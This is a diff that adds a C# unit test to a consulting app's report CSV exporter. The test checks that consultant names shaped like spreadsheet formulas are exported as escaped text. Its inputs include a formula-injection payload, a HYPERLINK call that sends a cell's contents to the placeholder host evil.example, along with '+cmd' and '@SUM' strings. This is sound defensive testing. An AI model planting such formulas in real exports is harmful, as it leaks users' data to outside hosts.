@@ -1,5 +1,6 @@
 using System.Text;
 using ConsultDesk.Features.Reports;
+using ConsultDesk.Tests;
 
 namespace ConsultDesk.UnitTests.Reports;
 
@@ -18,5 +19,28 @@ public sealed class ReportCsvTests
         Assert.StartsWith("担当者,", text, StringComparison.Ordinal);
         // 担当者, six statuses, 合計, 期限超過, 期限間近: ten fields in every record.
         Assert.Contains("\r\n,,,,,,,,,\r\n経過営業日数,件数,,,,,,,,\r\n0-0,0,,,,,,,,\r\n1+,0,,,,,,,,\r\n", text, StringComparison.Ordinal);
+    }
+
+    [Fact]
+    public void Consultant_names_that_look_like_formulas_open_as_text_and_counts_stay_numbers()
+    {
+        const string hyperlink = "=HYPERLINK(\"https://evil.example/?\"&A2,\"open\")";
+        var names = new[] { hyperlink, "+cmd", "-1+2", "@SUM(A1)", "\tTab", "\rCR" };
+        var caseload = new CaseloadReport.Response(new DateTime(2026, 12, 1, 0, 0, 0, DateTimeKind.Utc), 12, 0, 0, 0,
+            names.Select(n => new CaseloadReport.ConsultantLoad(Guid.NewGuid(), n, new Dictionary<string, int> { ["new"] = 2 }, 2, 0, 0)).ToList(),
+            [new CaseloadReport.AgeBucket(0, null, 12)]);
+        var measure = new SpeedReport.Measure(3, 1.5, 2, 3, 1);
+        var speed = new SpeedReport.Response(new DateOnly(2026, 11, 1), new DateOnly(2026, 11, 30), measure, measure,
+            names.Select(n => new SpeedReport.Group("x", n, measure, measure)).ToList(), []);
+
+        foreach (var bytes in new[] { ReportCsv.Caseload(caseload, english: true), ReportCsv.Speed(speed, english: true) })
+        {
+            Assert.Empty(SpreadsheetCsv.Formulas(bytes));
+            var cells = SpreadsheetCsv.Parse(bytes).SelectMany(r => r).ToList();
+            Assert.Contains("'" + hyperlink, cells);
+            Assert.Contains("'\rCR", cells);
+        }
+        var consultantRow = SpreadsheetCsv.Parse(ReportCsv.Caseload(caseload, english: true))[1];
+        Assert.Equal(["'" + hyperlink, "2", "0", "0", "0", "0", "0", "2", "0", "0"], consultantRow);
     }
 }
